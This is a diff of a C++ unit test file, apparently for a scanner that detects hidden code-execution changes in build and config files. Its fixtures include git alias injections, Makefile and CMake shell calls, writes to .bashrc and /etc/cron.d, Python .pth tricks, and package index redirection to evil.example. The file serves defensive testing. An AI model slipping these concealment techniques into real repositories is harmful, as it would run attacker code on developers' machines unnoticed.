@@ -1,4 +1,4 @@
-// Where a reader once saw something else than the tool that obeys the file.
+// Cases in which a reader once saw something other than the tool that obeys the file.
 #include <gtest/gtest.h>
 
 #include "change/rules/certainty.h"
@@ -28,7 +28,7 @@ struct Change {
 
 TEST(Readers, SeeWhatTheToolSees) {
   constexpr Change kChanges[] = {
-      // git: no comment continues, quotes are taken off, comments follow a value.
+      // git: comments do not continue, quotes are removed, comments may follow a value.
       {".git/config", "[core]\n# c \\\nbare = true\n", "[core]\n# c \\\nsshCommand = x\n"},
       {".git/config", "[alias]\nst = log\n", "[alias]\nst = \"!evil\" ; c\n"},
       {".git/config", "[alias]\nst = log\n", "[alias]\nst = \"!\"evil\n"},
@@ -39,7 +39,7 @@ TEST(Readers, SeeWhatTheToolSees) {
       {".git/config", "[core]\n", "\xef\xbb\xbf[alias]\nst = !a\n"},
       {".git/config", "[core]\n", "[core]\n\0[alias]\nst = !a\n"sv},
       {".git/config", "[core]\n", "[InClude]\npath = x\n"},
-      // make: a comment continues but for an even number of backslashes; that of a shell does not.
+      // make: a comment continues unless the number of backslashes is even; a shell's does not.
       {"Makefile", "a:\n", "a:\n# c \\\\\n\tid\n"},
       {"Makefile", "a:\n", "a:\n\t# c \\\n\tid\n"},
       {"Makefile", "a:\n", "a:\n\t# $(shell id)\n"},
@@ -68,7 +68,7 @@ TEST(Readers, SeeWhatTheToolSees) {
       {".depend", "", "x := $(shell id)\n"},
       {"Makefile.local", "", "a:\n\tid\n"},
       {"justfile", "a:\n  id\n", "set shell := ['x']\na:\n  id\n"},
-      // Python: encodings, strings over several lines, letters that are the same word.
+      // Python: encodings, multi-line strings, different letters that form the same word.
       {"sitecustomize.py", "x = 1\n", "# coding: utf-7\nx = 1\n"},
       {"sitecustomize.py", "# c\n", "# c\rid()\n"},
       {"sitecustomize.py", "x = '''\n'''\n", "x = '''\n# c\n'''\n"},
@@ -79,13 +79,13 @@ TEST(Readers, SeeWhatTheToolSees) {
       {"a.pth", "lib\n", "lib\rimport x\n"},
       {"a.pth", "\xef\xbb\xbfimport x\n", "import x\n"},
       {"a.pth", "lib\n", "lib\x0cimport x\n"},
-      // A literal is no data where a command takes it.
+      // A literal is not just data if a command takes it.
       {"setup.py", "import setuptools\nrun([\n  'make',\n])\n",
        "import setuptools\nrun([\n  'evil',\n])\n"},
       {"setup.py", "setup(\n  scripts=[\n    'a',\n  ],\n)\n",
        "setup(\n  scripts=[\n    'a',\n    'b',\n  ],\n)\n"},
       {".gitattributes", "[attr]x filter=y\n", "[attr]x filter=y\n* x\n"},
-      // JavaScript, Rust, Groovy: strings and comments over several lines.
+      // JavaScript, Rust, Groovy: multi-line strings and comments.
       {".pnpmfile.cjs", "/*\n*/\n", "/*\n// */ id()\n"},
       {".pnpmfile.cjs", "x = `\n`\n", "x = `\n// c ${id()}\n`\n"},
       {".pnpmfile.cjs", "// c\n", "// c\xe2\x80\xa8id()\n"},
@@ -94,7 +94,7 @@ TEST(Readers, SeeWhatTheToolSees) {
       {"Jenkinsfile", "sh '''\n'''\n", "sh '''\n//tmp/x\n'''\n"},
       {"Jenkinsfile", "a = 'b'\n", "a = \"${id()}\"\n"},
       {"vite.config.js", "a\n", "\\u0065val(x)\n"},
-      // Shells: continued lines, here-documents, a mark before the first '#'.
+      // Shells: continued lines, here-documents, a byte order mark before the first '#'.
       {"/h/u/.bashrc", "a \\\nb\n", "a \\\n\nb\n"},
       {"/h/u/.bashrc", "a \\ \nb\n", "a \\\nb\n"},
       {"/h/u/.bashrc", "cc - <<E\nE\n", "cc - <<E\n#include \"x\"\nE\n"},
@@ -149,13 +149,13 @@ TEST(Readers, SeeWhatTheToolSees) {
        "<project><plugin><!--></x>--><artifactId>y</artifactId></plugin></project>"},
       {"pom.xml", "<project></project>",
        "<project><a x='>'><executable>y</executable></a></project>"},
-      // CMake: quoted names, lists, brackets that begin within a word.
+      // CMake: quoted names, lists, brackets that start within a word.
       {"CMakeLists.txt", "set(A b)\n", "set(\"CMAKE_C_COMPILER_LAUNCHER\" id)\n"},
       {"CMakeLists.txt", "set(A b)\n", "set([[CMAKE_C_COMPILER_LAUNCHER]] id)\n"},
       {"CMakeLists.txt", "set(A b)\n", "string(APPEND CMAKE_C_COMPILER_LAUNCHER id)\n"},
       {"CMakeLists.txt", "add_custom_command(OUTPUT a COMMAND b DEPENDS c)\n",
        "add_custom_command(OUTPUT a COMMAND b DEPENDS c;COMMAND;id)\n"},
-      // CMake: what it writes outside of the build, checkers it starts, files of any name.
+      // CMake: writes outside the build, checkers it starts, files of any name.
       {"CMakeLists.txt", "set(A b)\n", "file(WRITE $ENV{HOME}/.bashrc id)\n"},
       {"CMakeLists.txt", "set(A b)\n", "file(APPEND ${X}/../../.profile id)\n"},
       {"CMakeLists.txt", "set(A b)\n", "file(COPY x DESTINATION /etc/cron.d)\n"},
@@ -176,7 +176,7 @@ TEST(Readers, SeeWhatTheToolSees) {
        "set_target_properties(a PROPERTIES IMPORTED_LOCATION id)\n"},
       {"CMakeLists.txt", "set(A b)\n", "add_link_options(-Wl,-plugin,x.so)\n"},
       {"CMakeLists.txt", "set(A x[[ b)\n", "set(A x[[ b)\nexecute_process(COMMAND id)\n#]]\n"},
-      // Where packages come from
+      // Package sources.
       {"requirements.txt", "a==1\n", "a==1\n--index-url https:/\\\n/evil.example\n"},
       {"requirements.txt", "a==1\n", "a==1\n# c \\\n--index-url https://evil.example\n"},
       {"requirements.txt", "a==1\n", "# \x1c--index-url https://evil.example\na==1\n"},
@@ -245,18 +245,18 @@ TEST(Readers, LeaveEverydayEditsAlone) {
   }
 }
 
-TEST(Readers, SayWhyTheyAreNotSure) {
+TEST(Readers, SayWhyTheyAreUncertain) {
   EXPECT_EQ(Alarmed("Makefile", "a:\n", "a:\n# b\rc\n").at(0),
             "could not be read with certainty: a carriage return within a line in line 2");
   EXPECT_EQ(Alarmed("conftest.py", "1\n", "# coding=cp037\n1\n").at(0),
             "could not be read with certainty: the encoding cp037");
   EXPECT_EQ(Alarmed("package.json", "{}", "\xff\xfe{\0}\0"sv).at(0),
             "could not be read with certainty: UTF-16 or UTF-32");
-  // What the state before says is not sure either.
+  // The old state is uncertain, too.
   EXPECT_FALSE(Alarmed("Makefile", "a:\n# b\r\tid\n", "a:\n# b\n\tid\n").empty());
 }
 
-TEST(Readers, NulBytesDoNotMakeATextUnseen) {
+TEST(Readers, NulBytesDoNotHideAText) {
   const auto unseen = [](std::string_view before, std::string_view after) {
     return !FindTriggers({.path = "/h/u/app/a.c",
                           .before = Version{.content = before},
